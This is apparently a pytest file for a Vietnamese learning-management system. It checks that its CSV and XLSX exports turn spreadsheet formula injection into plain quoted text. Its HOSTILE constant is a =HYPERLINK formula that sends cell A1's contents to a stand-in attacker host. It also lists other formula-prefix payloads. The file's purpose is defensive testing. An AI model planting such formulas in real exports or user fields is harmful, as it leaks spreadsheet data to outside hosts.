"""The one export writer (lms/lib/exports.py) and every export that uses it.

A hostile `=HYPERLINK(...)` title or name goes through each writer; the produced XLSX is opened
with openpyxl and the cell must be a plain string (data_type "s", Excel's quote prefix), never
a formula, and the file must hold no formula at all. CSV: a byte-order mark, the apostrophe,
dates dd/mm/yyyy. Memory stays flat: 50,000 rows cost no more than 5,000.
"""

import csv
import datetime
import io
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.log_actions import log

from lms.lib import exports
from lms.org import roles
from tests.factories import PersonFactory, UserFactory
from tests.quizzes.conftest import category, course, make_quiz, make_single, module  # noqa: F401

HOSTILE = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'


def content_of(response):
    return response.getvalue() if response.streaming else response.content


def assert_text_not_formula(data, value):
    """`value` is in the workbook `data` as a string cell, and no cell is a formula."""
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    found = [c for c in cells if c.value == value]
    assert found, f"{value!r} is not in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in found)
    assert not [c for c in cells if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    return found[0]


# --- the writer itself -----------------------------------------------------------------------


def test_xlsx_cells_keep_types_and_vietnamese_formats():
    moment = datetime.datetime(2026, 8, 5, 18, 30, tzinfo=datetime.UTC)  # 01:30 on 6/8 in HCMC
    data = exports.xlsx_bytes(
        "Thử",
        ["Họ và tên", "Ngày", "Lúc", "Số", "Tỉ lệ", "Có?", "Trống"],
        [[HOSTILE, datetime.date(2026, 8, 6), moment, 3, Decimal("2.5"), True, None]],
    )
    sheet = load_workbook(io.BytesIO(data)).active
    header, row = list(sheet.iter_rows())
    assert [c.value for c in header][:2] == ["Họ và tên", "Ngày"] and header[0].font.b
    name, day, at, number, ratio, yes, empty = row
    assert name.value == HOSTILE and name.data_type == "s" and name.quotePrefix
    assert day.value == datetime.datetime(2026, 8, 6) and day.number_format == "DD/MM/YYYY"
    assert at.value == datetime.datetime(2026, 8, 6, 1, 30)
    assert at.number_format == "DD/MM/YYYY HH:MM"
    assert (number.value, number.data_type) == (3, "n")
    assert (ratio.value, ratio.data_type) == (2.5, "n")
    assert yes.value == "Có" and empty.value is None


def _stored_carriage_return(data, text):
    book = load_workbook(io.BytesIO(data))
    values = {c.value for sheet in book for row in sheet.iter_rows() for c in row}
    return text if text in values else text.replace("\r", "\n")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_prefix_is_text(text):
    assert exports.csv_value(text) == "'" + text
    # openpyxl's two XML readers differ on a carriage return: the standard library's turns it into
    # a line feed, lxml (when installed) keeps it. Either way the text is otherwise unchanged.
    data = exports.xlsx_bytes("Thử", ["A"], [[text]])
    read_back = text if "\r" not in text else _stored_carriage_return(data, text)
    cell = assert_text_not_formula(data, read_back)
    assert cell.value == read_back  # a re-import reads the same text


def test_csv_has_a_bom_apostrophes_and_vietnamese_dates():
    moment = datetime.datetime(2026, 8, 5, 18, 30, tzinfo=datetime.UTC)
    text = "".join(
        exports.csv_lines(
            ["Họ và tên", "Ngày", "Lúc", "Số", "Có?", "Trống"],
            [[HOSTILE, datetime.date(2026, 8, 6), moment, Decimal("2.5"), False, None]],
        )
    )
    assert text.startswith("\ufeffHọ và tên,")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[1] == ["'" + HOSTILE, "06/08/2026", "06/08/2026 01:30", "2.5", "Không", ""]


def test_csv_response_streams_utf8_with_bom():
    response = exports.csv_response("thu.csv", ["Tên"], ([f"Người {i}"] for i in range(3)))
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="thu.csv"' in response["Content-Disposition"]
    data = response.getvalue()
    assert data.startswith("\ufeff".encode()) and data.decode("utf-8-sig").splitlines() == [
        "Tên",
        "Người 0",
        "Người 1",
        "Người 2",
    ]


def _peak_bytes(n):
    rows = ([f"Nguyễn Văn {i}", f"CB{i:06d}", datetime.date(2026, 1, 1), i] for i in range(n))
    tracemalloc.start()
    try:
        book = exports.Xlsx()
        book.sheet("Thử", ["Họ và tên", "Mã", "Ngày", "Số"]).rows(rows)
        with book.file() as spool:
            size = len(spool.read(16))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert size == 16
    return peak


def test_memory_stays_flat_for_50000_rows():
    """Measured: about 0.6 MB for 5,000 rows and 1.6 MB for both 50,000 and 100,000 rows (the
    1 MB in-memory buffer of the spooled file, then disk); an ordinary openpyxl workbook keeps
    every cell object and needs far more."""
    peak = _peak_bytes(50_000)
    assert peak < 3 * 1024 * 1024, f"{peak / 1e6:.1f} MB for 50,000 rows"


# --- every writer of the project -------------------------------------------------------------


def test_enrolment_export_writes_a_hostile_name_as_text(client_for, home_affairs, ward_a, course):  # noqa: F811
    from courses.models import Enrolment

    person = PersonFactory(unit=ward_a, full_name=HOSTILE)
    Enrolment.objects.create(user=person.user, course=course)
    response = client_for(home_affairs).get("/admin/ghi-danh/", {"export": "xlsx"})
    assert response.streaming  # served from the writer's temporary file
    assert_text_not_formula(content_of(response), HOSTILE)


@pytest.mark.django_db
def test_item_analysis_export_writes_hostile_titles_as_text(
    client_for,
    home_affairs,
    learner,
    category,  # noqa: F811
    module,  # noqa: F811
    course,  # noqa: F811
    make_quiz,  # noqa: F811
):
    from courses.models import Enrolment

    question = make_single(category)
    question.title = HOSTILE
    question.save()
    quiz = make_quiz([question], module=module)
    quiz.title = "+" + HOSTILE
    quiz.save()
    Enrolment.objects.create(user=learner, course=course)
    attempt, _ = quiz.start_attempt(learner)
    attempt.submit()
    response = client_for(home_affairs).get(
        reverse("quizzes_admin:analysis", args=[quiz.pk]), {"xuat": "xlsx"}
    )
    assert response.status_code == 200 and response.streaming
    data = content_of(response)
    assert_text_not_formula(data, HOSTILE)
    assert_text_not_formula(data, "+" + HOSTILE)


def test_question_excel_export_writes_a_hostile_title_as_text_and_reimports_it():
    from quizzes import formats

    questions = formats.parse("gift", "::T::Câu hỏi?{=Đúng ~Sai}")
    questions[0].title = HOSTILE
    questions[0].stem = "=" + questions[0].stem
    data = formats.export("excel", questions)
    assert_text_not_formula(data, HOSTILE)
    again = formats.parse("excel", data)
    assert again[0].title == HOSTILE and again[0].stem == questions[0].stem


def test_people_template_is_written_by_the_writer():
    from lms.org.importing import EXAMPLE_ROW, HEADERS, template_workbook

    book = load_workbook(io.BytesIO(template_workbook()))
    assert book.sheetnames == ["Cán bộ", "Hướng dẫn"]
    rows = [list(r) for r in book["Cán bộ"].iter_rows(values_only=True)]
    assert rows[0] == list(HEADERS) and rows[1] == list(EXAMPLE_ROW)
    assert book["Cán bộ"]["A1"].font.b and book["Cán bộ"].freeze_panes == "A2"


def test_wagtail_exports_follow_the_same_rule(ward_a, home_affairs, client_for):
    hostile = PersonFactory(
        user=UserFactory(username="cong.thuc", roles=[roles.LEARNER]),
        unit=ward_a,
        full_name=HOSTILE,
    )
    entry = log(instance=hostile, action="wagtail.edit", user=home_affairs)
    client = client_for(home_affairs)
    data = content_of(client.get("/admin/reports/site-history/?export=csv"))
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    local = timezone.localtime(entry.timestamp).strftime("%d/%m/%Y %H:%M")
    assert local in cells
    data = content_of(client.get("/admin/reports/site-history/?export=xlsx"))
    assert_text_not_formula(data, HOSTILE)
    stamps = [
        c.value
        for row in load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, datetime.datetime)
    ]
    assert stamps == [timezone.localtime(entry.timestamp).replace(tzinfo=None, microsecond=0)]
